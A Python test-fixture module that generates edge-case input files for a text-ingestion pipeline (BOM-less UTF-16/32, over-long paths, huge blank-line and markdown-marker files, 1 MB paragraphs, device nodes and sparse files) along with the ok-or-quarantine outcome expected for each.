# Appended: the session 9 cases follow the cases above (``_cases`` is extended again, not edited).

RUSSIAN_TITLE = "Брифинг альянса"
_RUSSIAN_BODY = "Союзники НАТО встретились в Брюсселе и согласовали план обороны.\n"
CHINESE_BODY = "北约盟国在布鲁塞尔举行会议并商定了防务计划。\n"
DEEP_PATH_LEVELS, DEEP_PATH_NAME_CHARS = 24, 200  # ~4,900 characters: beyond PATH_MAX (4,096)


def deep_path_parts() -> tuple[str, ...]:
    """Folder names of a path longer than PATH_MAX under the raw root (each component is a legal name)."""
    return tuple(f"{i:02d}" + "d" * (DEEP_PATH_NAME_CHARS - 2) for i in range(DEEP_PATH_LEVELS))


def _deep_path_file(name: str, data: bytes) -> Writer:
    """Created folder by folder through descriptors: no single path string is short enough to open it."""

    def write(root: Path) -> None:
        fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
        try:
            for part in deep_path_parts():
                with contextlib.suppress(FileExistsError):
                    os.mkdir(part, dir_fd=fd)
                child = os.open(part, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
                os.close(fd)
                fd = child
            out = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=fd)
            with os.fdopen(out, "wb") as handle:
                handle.write(data)
        finally:
            os.close(fd)

    return write


def _session9_cases(big: bool) -> Iterator[tuple[Expect, Writer]]:
    ok, quarantine = "ok", "quarantine"
    russian = f"{RUSSIAN_TITLE}\n\n" + _RUSSIAN_BODY * 40
    for rel, codec, text in (
        ("encoding/utf16_le_no_bom_cyrillic.txt", "utf-16-le", russian),
        ("encoding/utf16_be_no_bom_chinese.txt", "utf-16-be", "北约简报\n\n" + CHINESE_BODY * 40),
        ("encoding/utf32_le_no_bom.txt", "utf-32-le", control_text()),
        ("encoding/utf32_be_no_bom_cyrillic.txt", "utf-32-be", russian),
    ):
        yield (
            Expect(
                rel,
                ok,
                encoding=codec,
                text_contains=(text.splitlines()[2],),
                text_excludes=("\x00",),
                fixed_bug="BOM-less UTF-16 of a non-Latin script (NULs in fewer than half its characters) and "
                "BOM-less UTF-32 were quarantined as 'binary: NUL character': text lost, misleading reason",
            ),
            _write(rel, text.encode(codec)),
        )
    yield (
        Expect(
            "limits/blank_lines_600000.md",
            quarantine,
            "too_costly",
            detected_by="read",
            note="600,000 blank lines (600 kB): each counts one token",
            fixed_bug="the budget's line scan skipped blank lines uncounted: 4,000,000 of them (4 MB) passed "
            "and took 23 CPU s and 863 MB to parse",
        ),
        _write_lazy("limits/blank_lines_600000.md", lambda: ("Blank Lines\n\nx\n" + "\n" * 600_000).encode()),
    )
    yield (
        Expect(
            "limits/image_openers_150000.md",
            quarantine,
            "too_costly",
            detected_by="read",
            note="150,000 '![' (300 kB) on one line: each re-reads up to 20 nested labels",
            fixed_bug="counted as two markers each, 250,000 image openers passed the budget (~16 CPU s)",
        ),
        _write_lazy("limits/image_openers_150000.md", lambda: ("Image Openers\n\n" + "![" * 150_000 + "x\n").encode()),
    )
    yield (
        Expect("names/" + "n" * 240 + ".md", ok, encoding="utf-8", title="Allied Briefing Long Name"),
        _write("names/" + "n" * 240 + ".md", article("Long Name").encode()),
    )
    deep = "/".join(("deep", *deep_path_parts(), "article.md"))
    yield (
        Expect(
            deep,
            ok,
            encoding="utf-8",
            title="Allied Briefing Deep Path",
            note=f"{len(deep):,} characters of path: beyond PATH_MAX, read through folder descriptors",
        ),
        lambda root: _deep_path_file("article.md", article("Deep Path").encode())(_mkdir(root / "deep")),
    )


def _mkdir(path: Path) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    return path


_budget_and_base_cases = _cases


def _cases(big: bool = True) -> Iterator[tuple[Expect, Writer]]:  # extended: the cases above, then session 9's
    yield from _budget_and_base_cases(big)
    yield from _session9_cases(big)


# --------------------------------------------------------------------------- session 10: prose and files

PROSE_BYTES = 1_000_000  # the "1 MB paragraph"
NAME_MAX_BYTES = 255


def hostile_prose_texts() -> dict[str, str]:
    """The issue's hostile prose at full size, each under a title: {name: text}. The 1 MB paragraph with no full
    stop comes wrapped (a line of ~80 characters, as an editor writes it) and as one line just under
    ``max_line_chars``; a paragraph of 1 MB on one line is ``line_too_long``, as any such line."""
    line = "NATO allies agreed to act together and the ministers met again in Brussels on\n"
    names = "Estonia Latvia Lithuania "
    return {
        "no_full_stop_1mb": "Hostile Prose No Stop\n\n" + line * (PROSE_BYTES // len(line)),
        "no_full_stop_one_line": "Hostile Prose One Line\n\n" + ("NATO allies agreed " * 52_632)[:999_000] + "\n",
        "abbreviations_100k": "Hostile Prose Abbreviations\n\n" + "U.S. " * 100_000 + "\n",
        "country_names_only": "Hostile Prose Countries\n\n" + names * (990_000 // len(names)) + "\n",
    }


def _session10_cases(big: bool) -> Iterator[tuple[Expect, Writer]]:
    ok, quarantine = "ok", "quarantine"
    if big:
        for name, text in hostile_prose_texts().items():
            rel = f"prose/{name}.md"
            title = text.split("\n", 1)[0]
            yield (
                Expect(rel, ok, encoding="utf-8", title=title, note="issue 13's hostile prose at 1 MB, whole flow"),
                _write(rel, text.encode()),
            )
    for stem in ("n", "北"):  # a name of exactly NAME_MAX bytes, in 1- and 3-byte characters
        count, pad = divmod(NAME_MAX_BYTES - 3, len(stem.encode()))
        rel = "names/" + stem * count + "n" * pad + ".md"
        yield (
            Expect(rel, ok, encoding="utf-8", title=f"Allied Briefing Max {stem}"),
            _write(rel, article(f"Max {stem}").encode()),
        )
    for rel in ("names/Case.md", "names/case.md", "names/CASE.MD"):  # differ by case only; their own bytes
        tag = rel[6:].replace(".", " ")
        yield Expect(rel, ok, encoding="utf-8", title=f"Allied Briefing {tag}"), _write(rel, article(tag).encode())
    yield (
        Expect(
            "special/zero_device.md",
            quarantine,
            "not_regular_file",
            detected_by="discover",
            note="a character device (/dev/zero's numbers) named like an article: never opened (root only)",
        ),
        _device("special/zero_device.md", os.makedev(1, 5)),
    )
    if not big:  # the small corpus holds no file over the size limit, sparse or not
        return
    yield (
        Expect("sparse/terabyte.md", quarantine, "too_large", detected_by="discover", note="1 TB sparse: never read"),
        _sparse("sparse/terabyte.md", 1 << 40),
    )
    yield (
        Expect("sparse/holes_5mb.md", quarantine, "binary", detected_by="read", note="an article then a 5 MB hole"),
        _sparse("sparse/holes_5mb.md", 5 * 1024 * 1024),
    )


def _device(rel: str, device: int) -> Writer:
    def write(root: Path) -> None:
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        os.mknod(root / rel, 0o644 | stat.S_IFCHR, device)  # PermissionError without CAP_MKNOD: case left out

    return write


def _sparse(rel: str, size: int) -> Writer:
    def write(root: Path) -> None:
        _write(rel, article("Sparse " + rel).encode())(root)
        os.truncate(root / rel, size)

    return write


_session9_and_earlier_cases = _cases


def _cases(big: bool = True) -> Iterator[tuple[Expect, Writer]]:  # extended: the cases above, then session 10's
    yield from _session9_and_earlier_cases(big)
    yield from _session10_cases(big)
